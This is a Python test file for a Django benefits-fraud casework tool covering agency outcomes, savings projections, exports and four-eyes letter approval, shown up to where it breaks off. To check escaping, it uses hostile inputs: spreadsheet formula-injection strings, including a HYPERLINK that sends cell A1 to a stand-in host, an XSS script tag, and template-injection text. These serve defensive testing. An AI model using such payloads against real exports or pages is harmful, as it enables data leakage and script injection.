"""Outcomes per hint and agency, measures with projected savings, the per-agency list and its export,
letters with four-eyes approval, and the case panel."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from missimo.accounts.models import AgencyKind
from missimo.accounts.policy import Role
from missimo.audit.models import AuditAction, AuditEvent
from missimo.outcomes import letters as letter_work
from missimo.outcomes import placeholders, savings, services
from missimo.outcomes.models import (
    AgencyMeasure,
    Letter,
    LetterStatus,
    LetterTemplate,
    MeasureKind,
    Outcome,
    OutcomeResult,
)
from missimo.reports.figures import figures_for

pytestmark = pytest.mark.django_db(databases="__all__")
TODAY = dt.date(2026, 10, 15)


# --- fixtures: hints built with the ORM (no run of the engine needed) ---------------------------


@pytest.fixture
def run():
    from missimo.runs.models import Run, RunStatus

    return Run.objects.create(
        stichtag=dt.date(2026, 9, 15), status=RunStatus.FINISHED, rule_versions={}, finished_at=timezone.now()
    )


def _hint(run, rule, agency_kind, ref, **extra):
    from missimo.engine.rules import hint_id
    from missimo.runs.models import Hint

    values = {
        "address": "Hauptstraße 1, 45127 Musterstadt",
        "objekt_id": "OBJ-1",
        "evidence": [],
        "explanation": "Erklärung",
        "facts": {},
    }
    values.update(extra)
    return Hint.objects.create(
        run=run,
        hint_id=hint_id(rule, ref),
        rule=rule,
        rule_version=1,
        agency_kind=agency_kind,
        primary_ref=ref,
        **values,
    )


@pytest.fixture
def kg_hint(run):
    return _hint(
        run,
        "KG_OHNE_SCHULE",
        "familienkasse",
        "KG-4711",
        amount_monthly=Decimal("255.00"),
        facts={"kind_name": "Ana Popescu", "kind_geburtsdatum": "2015-03-20"},
    )


@pytest.fixture
def jc_hint(run):
    return _hint(run, "SGB2_NACH_ABMELDUNG", "jobcenter", "BG-0815", amount_monthly=Decimal("563.00"))


@pytest.fixture
def bau_hint(run):
    return _hint(run, "UEBERBELEGUNG", "bauaufsicht", "OBJ-1")


@pytest.fixture
def case(kg_hint, jc_hint, bau_hint):
    from missimo.casework.models import Case
    from missimo.properties.models import Property

    prop = Property.objects.create(
        objekt_id="OBJ-1", strasse="Hauptstraße", hausnummer="1", plz="45127", ort="Musterstadt"
    )
    case = Case.objects.create(aktenzeichen="MIS-2026-00001", property=prop, title="Hauptstraße 1")
    case.hints.add(kg_hint, jc_hint, bau_hint)
    return case


@pytest.fixture
def kai(make_user):
    return make_user(
        "kai", Role.KOORDINIERUNG, "Ordnungsamt", AgencyKind.ORDNUNGSAMT, first_name="Kai", last_name="Zweit"
    )


@pytest.fixture
def jonas(make_user):
    return make_user("jonas", Role.JOBCENTER, "Jobcenter", AgencyKind.JOBCENTER)


@pytest.fixture
def bea(make_user):
    return make_user("bea", Role.BAUAUFSICHT, "Wohnungsaufsicht", AgencyKind.BAUAUFSICHT)


def _client(client, user):
    client.force_login(user)
    return client


def _events(action, object_type):
    return AuditEvent.objects.using("audit").filter(action=action, object_type=object_type)


# --- outcomes ---------------------------------------------------------------------------------


def test_an_agency_records_an_outcome_only_for_hints_it_may_see(fabian, kg_hint, jc_hint, client):
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    with pytest.raises(services.Refused):
        services.record_outcome(fabian, jc_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    _client(client, fabian)
    assert client.get(f"/ergebnisse/hinweis/{jc_hint.pk}/").status_code == 404
    answer = client.post(
        f"/ergebnisse/hinweis/{jc_hint.pk}/",
        {"result": "missbrauch", "decided_on": "15.10.2026", "version": 0},
    )
    assert answer.status_code == 404
    assert not Outcome.objects.filter(hint=jc_hint).exists()


def test_the_data_protection_officer_records_nothing_and_gets_404(dana, kg_hint, client):
    assert not services.may_record(dana)
    _client(client, dana)
    assert client.get("/ergebnisse/").status_code == 404
    assert client.get(f"/ergebnisse/hinweis/{kg_hint.pk}/").status_code == 404


def test_fabian_records_an_outcome_from_the_web_and_it_is_audited(fabian, kg_hint, client):
    _client(client, fabian)
    page = client.get(f"/ergebnisse/hinweis/{kg_hint.pk}/")
    assert page.status_code == 200 and "KG-4711" in page.content.decode()
    answer = client.post(
        f"/ergebnisse/hinweis/{kg_hint.pk}/",
        {"result": "missbrauch", "decided_on": "14.10.2026", "note": "Kind lebt in Rumänien", "version": 0},
    )
    assert answer.status_code == 302
    outcome = Outcome.objects.get(hint=kg_hint)
    assert outcome.agency == fabian.agency and outcome.result == OutcomeResult.MISSBRAUCH
    assert outcome.decided_on == dt.date(2026, 10, 14) and outcome.created_by == fabian
    event = _events(AuditAction.CREATE, "outcome").get()
    assert event.details["hint"] == kg_hint.hint_id and event.actor_username == "fabian"


def test_one_current_outcome_per_hint_and_agency_and_a_correction_keeps_the_earlier_version(
    fabian, kim, kg_hint
):
    first = services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    other = services.record_outcome(kim, kg_hint, result=OutcomeResult.KEIN_BEFUND, decided_on=TODAY)
    assert first.pk != other.pk  # another agency has its own outcome on the same hint
    corrected = services.record_outcome(
        fabian, kg_hint, result=OutcomeResult.FEHLER, decided_on=TODAY, note="Irrtum der Schule", version=1
    )
    assert corrected.pk == first.pk and corrected.version == 2
    assert Outcome.objects.filter(hint=kg_hint, agency=fabian.agency).count() == 1
    revision = corrected.revisions.get()
    assert revision.version == 1 and revision.result == OutcomeResult.MISSBRAUCH
    change = _events(AuditAction.CHANGE, "outcome").get()
    assert {"field": "Ergebnis", "old": "Missbrauch bestätigt", "new": "Fehler/Irrtum"} in change.details[
        "changes"
    ]
    with pytest.raises(PermissionError):
        revision.delete()


def test_a_correction_on_a_stale_version_is_a_409_with_a_german_message(fabian, kg_hint, client):
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.FEHLER, decided_on=TODAY, version=1)
    _client(client, fabian)
    answer = client.post(
        f"/ergebnisse/hinweis/{kg_hint.pk}/",
        {"result": "kein_befund", "decided_on": "15.10.2026", "version": 1},
    )
    assert answer.status_code == 409
    assert "Jemand anderes hat diesen Eintrag geändert" in answer.content.decode()
    assert Outcome.objects.get(hint=kg_hint).result == OutcomeResult.FEHLER
    # a second "first" entry (version 0) is a conflict too, never a silent overwrite
    with pytest.raises(services.Conflict):
        services.record_outcome(
            fabian, kg_hint, result=OutcomeResult.KEIN_BEFUND, decided_on=TODAY, version=0
        )


def test_agencies_see_only_their_own_outcomes_and_the_coordination_office_sees_all(
    fabian, jonas, kim, kg_hint, jc_hint
):
    mine = services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    theirs = services.record_outcome(jonas, jc_hint, result=OutcomeResult.KEIN_BEFUND, decided_on=TODAY)
    assert list(services.outcomes_for(fabian)) == [mine]
    assert list(services.outcomes_for(jonas)) == [theirs]
    assert set(services.outcomes_for(kim)) == {mine, theirs}


def test_an_outcome_can_only_be_linked_to_a_case_that_holds_the_hint(fabian, kg_hint, run):
    from missimo.casework.models import Case

    other = Case.objects.create(aktenzeichen="MIS-2026-00099")
    with pytest.raises(services.Refused):
        services.record_outcome(
            fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY, case=other
        )


# --- savings ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stop", "birth", "months"),
    [
        # birthday on the 20th of March 2033: March 2033 is the last month; Nov 2026 .. Mar 2033
        (dt.date(2026, 10, 15), dt.date(2015, 3, 20), 77),
        # birthday on the 1st: the child completed 18 the day before, February 2033 is the last month
        (dt.date(2026, 10, 15), dt.date(2015, 3, 1), 76),
        # birthday on the 31st counts its own month
        (dt.date(2026, 10, 15), dt.date(2015, 3, 31), 77),
        # birthday on the 2nd: its own month still counts
        (dt.date(2026, 10, 15), dt.date(2015, 3, 2), 77),
        # stop on the 1st of a month: that month is still paid (entitlement existed on one day)
        (dt.date(2026, 10, 1), dt.date(2015, 3, 20), 77),
        # stop on the 31st of a month
        (dt.date(2026, 10, 31), dt.date(2015, 3, 20), 77),
        # stop in the month before the 18th birthday: only the birthday month is saved
        (dt.date(2033, 2, 28), dt.date(2015, 3, 20), 1),
        # stop in the month of the 18th birthday: nothing left to save
        (dt.date(2033, 3, 5), dt.date(2015, 3, 20), 0),
        # born on the 1st, stop in the month before the birthday month: that month was the last one
        (dt.date(2033, 2, 10), dt.date(2015, 3, 1), 0),
        # already 18 at the stop: 0, never negative
        (dt.date(2026, 10, 15), dt.date(2007, 5, 20), 0),
        # the 18th birthday is exactly the stop date
        (dt.date(2026, 10, 15), dt.date(2008, 10, 15), 0),
        # born on 29 February: the month counts as for every other day
        (dt.date(2026, 10, 15), dt.date(2012, 2, 29), 40),
    ],
)
def test_projected_months_until_the_18th_birthday_at_the_boundaries(stop, birth, months):
    assert savings.projected_months(stop, birth) == months


def test_projected_savings_are_months_times_the_monthly_amount_and_unknown_without_a_birth_date():
    assert savings.projected_savings(dt.date(2026, 10, 15), dt.date(2015, 3, 20), Decimal("255.00")) == (
        77,
        Decimal("19635.00"),
    )
    assert savings.projected_savings(dt.date(2026, 10, 15), dt.date(2007, 1, 2), Decimal("255")) == (
        0,
        Decimal("0.00"),
    )
    assert savings.projected_savings(dt.date(2026, 10, 15), None, Decimal("255")) == (None, None)
    assert savings.birth_date_of({"kind_geburtsdatum": "2015-03-20"}) == dt.date(2015, 3, 20)
    assert savings.birth_date_of({"kind_geburtsdatum": "unbekannt"}) is None
    assert savings.birth_date_of({}) is None


# --- measures ---------------------------------------------------------------------------------


def test_a_stopped_kindergeld_defaults_to_the_hints_monthly_amount_and_projects_savings(fabian, kg_hint):
    measure = services.add_measure(fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=TODAY)
    assert measure.monthly_amount == Decimal("255.00")
    assert measure.child_birth_date == dt.date(2015, 3, 20)
    assert measure.projected_months == 77 and measure.projected_savings == Decimal("19635.00")
    assert _events(AuditAction.CREATE, "agency_measure").get().details["projected_savings"] == "19635.00"


def test_a_rueckforderung_needs_an_amount(fabian, kg_hint, client):
    with pytest.raises(services.Refused):
        services.add_measure(fabian, kg_hint, kind=MeasureKind.RUECKFORDERUNG, taken_on=TODAY)
    _client(client, fabian)
    answer = client.post(
        f"/ergebnisse/hinweis/{kg_hint.pk}/massnahmen/",
        {"massnahme-kind": "rueckforderung", "massnahme-taken_on": "15.10.2026"},
    )
    assert answer.status_code == 400
    assert "Bei einer Rückforderung geben Sie bitte den Betrag an." in answer.content.decode()
    answer = client.post(
        f"/ergebnisse/hinweis/{kg_hint.pk}/massnahmen/",
        {
            "massnahme-kind": "rueckforderung",
            "massnahme-taken_on": "15.10.2026",
            "massnahme-reclaimed_amount": "3.060,00",
        },
    )
    assert answer.status_code == 302
    assert AgencyMeasure.objects.get().reclaimed_amount == Decimal("3060.00")


def test_an_agency_records_measures_only_for_its_own_hints(jonas, kg_hint, client):
    with pytest.raises(services.Refused):
        services.add_measure(jonas, kg_hint, kind=MeasureKind.ANZEIGE, taken_on=TODAY)
    _client(client, jonas)
    answer = client.post(
        f"/ergebnisse/hinweis/{kg_hint.pk}/massnahmen/",
        {"massnahme-kind": "anzeige", "massnahme-taken_on": "15.10.2026"},
    )
    assert answer.status_code == 404


def test_measures_are_scoped_per_agency(fabian, jonas, kim, kg_hint, jc_hint):
    mine = services.add_measure(fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=TODAY)
    theirs = services.add_measure(jonas, jc_hint, kind=MeasureKind.ANZEIGE, taken_on=TODAY)
    assert list(services.measures_for(fabian)) == [mine]
    assert list(services.measures_for(jonas)) == [theirs]
    assert set(services.measures_for(kim)) == {mine, theirs}


def test_a_withdrawn_measure_stays_visible_but_no_longer_counts(fabian, jonas, kg_hint, client):
    measure = services.add_measure(fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=TODAY)
    _client(client, jonas)
    assert (
        client.post(
            f"/ergebnisse/massnahmen/{measure.pk}/zuruecknehmen/", {"reason": "x", "version": 1}
        ).status_code
        == 404
    )
    _client(client, fabian)
    stale = client.post(
        f"/ergebnisse/massnahmen/{measure.pk}/zuruecknehmen/", {"reason": "falsch", "version": 7}
    )
    assert stale.status_code == 409
    answer = client.post(
        f"/ergebnisse/massnahmen/{measure.pk}/zuruecknehmen/", {"reason": "falscher Hinweis", "version": 1}
    )
    assert answer.status_code == 302
    measure.refresh_from_db()
    assert measure.withdrawn_at is not None and measure.withdrawn_reason == "falscher Hinweis"
    stopped = figures_for(TODAY, TODAY).table("geld_monat").value("Summe", "eingestellt (€/Monat)")
    assert stopped == Decimal("0")
    assert "zurückgenommen" in client.get(f"/ergebnisse/hinweis/{kg_hint.pk}/").content.decode()


def test_the_report_figures_sum_the_active_measures_and_the_outcomes_of_the_period(
    fabian, jonas, kg_hint, jc_hint
):
    services.add_measure(
        fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=dt.date(2026, 10, 1)
    )
    services.add_measure(
        fabian,
        kg_hint,
        kind=MeasureKind.RUECKFORDERUNG,
        taken_on=dt.date(2026, 10, 31),
        reclaimed_amount=Decimal("1530"),
    )
    services.add_measure(jonas, jc_hint, kind=MeasureKind.ANZEIGE, taken_on=dt.date(2026, 11, 1))
    services.record_outcome(
        fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=dt.date(2026, 10, 20)
    )
    october = figures_for(dt.date(2026, 10, 1), dt.date(2026, 10, 31))
    year = figures_for(dt.date(2026, 1, 1), dt.date(2026, 12, 31))
    money = october.table("geld_monat")
    assert money.value("Summe", "eingestellt (€/Monat)") == Decimal("255.00")
    assert money.value("Summe", "zurückgefordert (€)") == Decimal("1530.00")
    assert money.value("Summe", "prognostizierte Einsparung (€)") == Decimal("19635.00")
    anzeige = str(MeasureKind.ANZEIGE.label)
    assert october.table("massnahmen_behoerde").value("Summe", anzeige) == 0
    assert year.table("massnahmen_behoerde").value("Summe", anzeige) == 1
    results = october.table("ergebnisse_behoerde")
    assert [results.value("Summe", str(label)) for _, label in OutcomeResult.choices] == [1, 0, 0]
    stopped = str(MeasureKind.KINDERGELD_EINGESTELLT.label)
    assert year.table("massnahmen_behoerde").value(jonas.agency.name, stopped) == 0


# --- the per-agency list and its export -------------------------------------------------------


def test_the_list_shows_the_agencys_hints_with_status_and_filters(fabian, kg_hint, jc_hint, run, client):
    from missimo.runs.models import Hint  # noqa: F401

    open_hint = _hint(run, "KG_DOPPELBEZUG", "familienkasse", "KG-9999")
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    _client(client, fabian)
    body = client.get("/ergebnisse/").content.decode()
    assert kg_hint.hint_id in body and open_hint.hint_id in body and jc_hint.hint_id not in body
    assert "Missbrauch bestätigt" in body
    filtered = client.get("/ergebnisse/?status=offen").content.decode()
    assert open_hint.hint_id in filtered and kg_hint.hint_id not in filtered
    read = _events(AuditAction.READ, "outcome_list").last()
    assert set(read.details["hints"]) == {open_hint.hint_id}


def test_an_agency_acting_on_another_agencys_hint_cannot_find_it_by_the_record_key(
    make_user, fabian, kg_hint, client
):
    sina = make_user("sina", Role.SCHULAMT, "Schulamt", AgencyKind.SCHULAMT)
    _client(client, sina)
    assert kg_hint.hint_id in client.get("/ergebnisse/").content.decode()  # it acts on the hint
    # the Kindergeldnummer is the Familienkasse's: typing it must not tell whether it exists
    assert kg_hint.hint_id not in client.get("/ergebnisse/", {"q": "KG-4711"}).content.decode()
    assert kg_hint.hint_id in client.get("/ergebnisse/", {"q": "Hauptstraße"}).content.decode()
    _client(client, fabian)
    assert kg_hint.hint_id in client.get("/ergebnisse/", {"q": "KG-4711"}).content.decode()


def test_the_export_is_exactly_what_is_shown_with_formula_escaping(fabian, kg_hint, run, client):
    _hint(run, "KG_DOPPELBEZUG", "familienkasse", '=HYPERLINK("http://x")', address="=1+1")
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    services.add_measure(fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=TODAY)
    _client(client, fabian)
    answer = client.get("/ergebnisse/export.csv?status=erfasst")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Hinweis-ID" and len(rows) == 2
    assert rows[1][0] == kg_hint.hint_id and rows[1][5] == "Missbrauch bestätigt"
    assert rows[1][8] == "255,00" and rows[1][10] == "19635,00"
    everything = list(
        csv.reader(
            io.StringIO(client.get("/ergebnisse/export.csv").content.decode("utf-8-sig")), delimiter=";"
        )
    )
    evil = next(row for row in everything if row[2].endswith("1+1"))
    assert evil[2] == "'=1+1" and evil[3].startswith("'=")
    book = openpyxl.load_workbook(io.BytesIO(client.get("/ergebnisse/export.xlsx").content))
    sheet = book.active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(values) == len(everything)
    assert any(row[2] == "'=1+1" for row in values[1:])
    export = _events(AuditAction.EXPORT, "outcome_list").first()
    assert export.details["filters"] == {"status": "erfasst"} and export.details["hints"] == [kg_hint.hint_id]


# --- letters ----------------------------------------------------------------------------------


def test_placeholders_are_filled_as_text_html_is_escaped_and_unknown_ones_stay():
    values = {"adresse": "<script>alert(1)</script>", "aktenzeichen": "MIS-1", "datum": "{adresse}"}
    text = (
        "Objekt {adresse}, Az. {aktenzeichen}, {datum}, {unbekannt} {{ settings.SECRET_KEY }} {% now 'Y' %}"
    )
    plain = placeholders.fill(text, values)
    assert plain.startswith("Objekt <script>alert(1)</script>, Az. MIS-1, {adresse}, {unbekannt}")
    assert "{{ settings.SECRET_KEY }}" in plain and "{% now 'Y' %}" in plain
    html = placeholders.fill_html(text, values)
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert placeholders.unknown_placeholders(text) == ["unbekannt"]
    # a placeholder without a value stays visible instead of vanishing
    assert placeholders.fill("{empfaenger}", {}) == "{empfaenger}"


def test_the_default_templates_are_seeded():
    assert set(LetterTemplate.objects.values_list("name", flat=True)) >= {
        "Mitteilung an die Familienkasse",
        "Mitteilung an die Wohnungsaufsicht",
    }


@pytest.fixture
def familienkasse_letter(kim, fabian, case):
    template = LetterTemplate.objects.get(name="Mitteilung an die Familienkasse")
    return letter_work.draft_letter(kim, case, fabian.agency, template)


def test_a_letter_names_only_the_hints_the_recipient_may_see(
    familienkasse_letter, kg_hint, jc_hint, bau_hint
):
    body = familienkasse_letter.body
    assert kg_hint.hint_id in body and "KG-4711" in body
    assert jc_hint.hint_id not in body and bau_hint.hint_id not in body
    assert "Ana Popescu" not in body  # no names in the letter: the Beleg identifies the case
    assert "Hauptstraße 1, 45127 Musterstadt" in body and "MIS-2026-00001" in familienkasse_letter.subject
    assert familienkasse_letter.status == LetterStatus.ENTWURF


def test_the_author_cannot_approve_their_own_letter(familienkasse_letter, kim, client):
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    with pytest.raises(services.Refused, match="Vier-Augen-Prinzip"):
        letter_work.approve_letter(kim, letter, version=letter.version)
    _client(client, kim)
    answer = client.post(f"/ergebnisse/schreiben/{letter.pk}/freigeben/", {"version": letter.version})
    assert answer.status_code == 403 and "Vier-Augen-Prinzip" in answer.content.decode()
    letter.refresh_from_db()
    assert letter.status == LetterStatus.ZUR_FREIGABE and letter.approved_by is None


def test_a_user_outside_the_coordination_office_cannot_approve(familienkasse_letter, kim, fabian, client):
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    with pytest.raises(services.Refused):
        letter_work.approve_letter(fabian, letter, version=letter.version)
    _client(client, fabian)
    assert (
        client.post(f"/ergebnisse/schreiben/{letter.pk}/freigeben/", {"version": letter.version}).status_code
        == 404
    )
    letter.refresh_from_db()
    assert letter.status == LetterStatus.ZUR_FREIGABE


def test_a_second_coordination_user_approves_it_is_audited_and_then_the_pdf_exists(
    familienkasse_letter, kim, kai, client, settings
):
    settings.CITY_NAME = "Gelsenstadt"
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    with pytest.raises(services.Refused):
        letter_work.letter_pdf(kim, letter)
    _client(client, kim)
    refused = client.get(f"/ergebnisse/schreiben/{letter.pk}/pdf/")
    assert refused.status_code == 403 and refused["Content-Type"].startswith("text/html")
    _client(client, kai)
    assert (
        client.post(f"/ergebnisse/schreiben/{letter.pk}/freigeben/", {"version": letter.version}).status_code
        == 302
    )
    letter.refresh_from_db()
    assert letter.status == LetterStatus.FREIGEGEBEN and letter.approved_by == kai
    release = _events(AuditAction.RELEASE, "letter").get()
    assert release.actor_username == "kai" and release.details["author"] == "kim"
    pdf = client.get(f"/ergebnisse/schreiben/{letter.pk}/pdf/")
    assert (
        pdf.status_code == 200
        and pdf["Content-Type"] == "application/pdf"
        and pdf.content.startswith(b"%PDF")
    )
    assert _events(AuditAction.EXPORT, "letter").count() == 1


def test_the_pdf_shows_letterhead_aktenzeichen_and_german_date(familienkasse_letter, kim, kai, settings):
    from django.template.loader import render_to_string

    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    letter = letter_work.approve_letter(kai, letter, version=letter.version)
    letter.body += "\n<b>fett</b>"
    html = render_to_string(
        "outcomes/letter_pdf.html",
        {"letter": letter, "city_name": settings.CITY_NAME, "day": dt.date(2026, 10, 5)},
    )
    assert f"Stadt {settings.CITY_NAME}" in html
    assert "MIS-2026-00001" in html and "05.10.2026" in html
    assert "&lt;b&gt;fett&lt;/b&gt;" in html


def test_a_rejected_letter_goes_back_to_its_author_and_only_the_author_edits_it(
    familienkasse_letter, kim, kai, client
):
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    _client(client, kai)
    assert (
        client.post(
            f"/ergebnisse/schreiben/{letter.pk}/zurueckweisen/", {"version": letter.version}
        ).status_code
        == 400
    )
    assert (
        client.post(
            f"/ergebnisse/schreiben/{letter.pk}/zurueckweisen/",
            {"reason": "Anrede fehlt", "version": letter.version},
        ).status_code
        == 302
    )
    letter.refresh_from_db()
    assert letter.status == LetterStatus.ZURUECKGEWIESEN and letter.rejection_reason == "Anrede fehlt"
    with pytest.raises(services.Refused):
        letter_work.update_letter(kai, letter, subject="x", body="y", version=letter.version)
    _client(client, kim)
    stale = client.post(
        f"/ergebnisse/schreiben/{letter.pk}/bearbeiten/", {"subject": "S", "body": "B", "version": 1}
    )
    assert stale.status_code == 409 and "Jemand anderes" in stale.content.decode()
    answer = client.post(
        f"/ergebnisse/schreiben/{letter.pk}/bearbeiten/",
        {"subject": "S", "body": "B", "version": letter.version},
    )
    assert answer.status_code == 302
    letter.refresh_from_db()
    assert letter.status == LetterStatus.ENTWURF and letter.body == "B"


def test_the_recipient_sees_a_letter_only_after_release_and_other_agencies_never(
    familienkasse_letter, kim, kai, fabian, jonas, client
):
    _client(client, fabian)
    assert client.get(f"/ergebnisse/schreiben/{familienkasse_letter.pk}/").status_code == 404
    assert familienkasse_letter.subject not in client.get("/ergebnisse/schreiben/").content.decode()
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    letter = letter_work.approve_letter(kai, letter, version=letter.version)
    page = client.get(f"/ergebnisse/schreiben/{letter.pk}/")
    assert page.status_code == 200 and "Freigeben" not in page.content.decode()
    assert client.get(f"/ergebnisse/schreiben/{letter.pk}/pdf/").status_code == 200
    _client(client, jonas)
    assert client.get(f"/ergebnisse/schreiben/{letter.pk}/").status_code == 404
    assert client.get(f"/ergebnisse/schreiben/{letter.pk}/pdf/").status_code == 404


FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def _export_rows(client, fmt, **params):
    response = client.get(f"/ergebnisse/schreiben/export.{fmt}", params)
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_letter_export_has_the_letters_of_the_filtered_page(
    familienkasse_letter, kim, fabian, case, client
):
    template = LetterTemplate.objects.get(name="Mitteilung an die Familienkasse")
    submitted = letter_work.draft_letter(kim, case, fabian.agency, template)
    submitted = letter_work.submit_letter(kim, submitted, version=submitted.version)
    _client(client, kim)
    page = client.get("/ergebnisse/schreiben/", {"status": "zur_freigabe"})
    assert [letter.pk for letter in page.context["letters"]] == [submitted.pk]
    assert "/ergebnisse/schreiben/export.csv?status=zur_freigabe" in page.content.decode()
    rows = _export_rows(client, "csv", status="zur_freigabe")
    assert rows[0] == ["Betreff", "Prüffall", "Empfängerin", "Status", "verfasst von", "angelegt"]
    assert [row[:4] for row in rows[1:]] == [
        [submitted.subject, case.aktenzeichen, str(fabian.agency), "zur Freigabe"]
    ]
    assert rows[1][5] == timezone.localdate().strftime("%d.%m.%Y")
    assert [row[0] for row in _export_rows(client, "xlsx", status="zur_freigabe")[1:]] == [submitted.subject]
    assert len(_export_rows(client, "csv")) == 3
    assert client.get("/ergebnisse/schreiben/export.json").status_code == 404


def test_the_letter_list_sorts_pages_and_filters_by_recipient_and_text_and_the_export_follows(
    familienkasse_letter, kim, fabian, case, client
):
    _client(client, kim)
    page = client.get("/ergebnisse/schreiben/", {"empfaengerin": str(fabian.agency.pk), "anzahl": "25"})
    assert [letter.pk for letter in page.context["letters"]] == [familienkasse_letter.pk]
    html = page.content.decode()
    assert 'aria-sort="descending"' in html and 'id="filter-von" name="von"' in html and 'type="date"' in html
    assert f"export.csv?empfaengerin={fabian.agency.pk}" in html
    nothing = client.get("/ergebnisse/schreiben/", {"suche": "gibtesnicht"})
    assert (
        nothing.context["letters"] == [] and "Keine Schreiben für diese Auswahl." in nothing.content.decode()
    )
    assert _export_rows(client, "csv", suche="gibtesnicht")[1:] == []
    by_subject = client.get("/ergebnisse/schreiben/", {"sortierung": "betreff"})
    subjects = [letter.subject for letter in by_subject.context["letters"]]
    assert subjects == sorted(subjects)


def test_the_letter_export_is_audited_escapes_formulas_and_has_no_letter_of_another_agency(
    familienkasse_letter, kim, kai, fabian, jonas, client
):
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    letter = letter_work.approve_letter(kai, letter, version=letter.version)
    Letter.objects.filter(pk=letter.pk).update(subject=FORMULA)
    _client(client, fabian)
    rows = _export_rows(client, "csv")
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA]
    assert [row[0] for row in _export_rows(client, "xlsx")[1:]] == ["'" + FORMULA]
    event = _events(AuditAction.EXPORT, "letter_list").filter(actor_username="fabian").first()
    assert event.purpose == "Export der Übersicht der Schreiben" and event.details["letters"] == [letter.pk]
    _client(client, jonas)
    assert _export_rows(client, "csv")[1:] == []


def test_a_letter_is_sent_only_after_release(familienkasse_letter, kim, kai):
    with pytest.raises(services.Refused):
        letter_work.mark_sent(kim, familienkasse_letter, version=1)
    letter = letter_work.submit_letter(kim, familienkasse_letter, version=1)
    letter = letter_work.approve_letter(kai, letter, version=letter.version)
    letter = letter_work.mark_sent(kim, letter, version=letter.version)
    assert letter.status == LetterStatus.VERSANDT and letter.sent_at is not None
    assert _events(AuditAction.RELEASE, "letter").count() == 2
    assert [e.to_status for e in letter.events.order_by("occurred_at", "id")] == [
        "entwurf",
        "zur_freigabe",
        "freigegeben",
        "versandt",
    ]


def test_kim_drafts_a_letter_from_the_web(kim, fabian, case, client):
    template = LetterTemplate.objects.get(name="Mitteilung an die Familienkasse")
    _client(client, kim)
    assert client.get(f"/ergebnisse/schreiben/neu/{case.pk}/").status_code == 200
    answer = client.post(
        f"/ergebnisse/schreiben/neu/{case.pk}/", {"recipient": fabian.agency.pk, "template": template.pk}
    )
    letter = Letter.objects.get()
    assert answer.status_code == 302 and answer["Location"].endswith(f"/schreiben/{letter.pk}/bearbeiten/")
    assert letter.author == kim and letter.recipient == fabian.agency


def test_only_the_coordination_office_drafts_letters_and_edits_templates(fabian, case, client):
    _client(client, fabian)
    assert client.get(f"/ergebnisse/schreiben/neu/{case.pk}/").status_code == 404
    assert client.get("/ergebnisse/vorlagen/").status_code == 404
    template = LetterTemplate.objects.first()
    assert client.post(f"/ergebnisse/vorlagen/{template.pk}/", {"name": "x"}).status_code == 404
    with pytest.raises(services.Refused):
        letter_work.save_template(fabian, template, {"subject": "x"}, version=template.version)


def test_the_coordination_office_edits_a_template_and_a_stale_version_is_409(kim, client):
    template = LetterTemplate.objects.get(name="Mitteilung an die Wohnungsaufsicht")
    _client(client, kim)
    data = {
        "name": template.name,
        "recipient_kind": "bauaufsicht",
        "subject": "Objekt {adresse}",
        "body": "Text {aktenzeichen} {gibtsnicht}",
        "active": "on",
        "version": template.version,
    }
    answer = client.post(f"/ergebnisse/vorlagen/{template.pk}/", data, follow=True)
    assert answer.status_code == 200 and "{gibtsnicht}" in answer.content.decode()
    template.refresh_from_db()
    assert template.body == "Text {aktenzeichen} {gibtsnicht}" and template.version == 2
    assert client.post(f"/ergebnisse/vorlagen/{template.pk}/", data).status_code == 409
    assert _events(AuditAction.CHANGE, "letter_template").count() == 1


# --- navigation and the case panel ------------------------------------------------------------


def test_the_menu_offers_ergebnisse_and_schreiben_to_the_roles_that_may_use_them(
    kim, fabian, dana, make_user
):
    from missimo.outcomes.nav import items

    assert [label for label, _ in items(kim)] == ["Ergebnisse", "Schreiben"]
    assert [label for label, _ in items(fabian)] == ["Ergebnisse", "Schreiben"]
    assert items(dana) == []
    paul = make_user("paul", Role.POLIZEI, "Polizei", AgencyKind.POLIZEI)
    assert [label for label, _ in items(paul)] == ["Schreiben"]


def test_the_case_panel_shows_outcomes_measures_and_letters_by_scope(kim, fabian, dana, case, kg_hint, rf):
    from missimo.outcomes.panels import case_panel

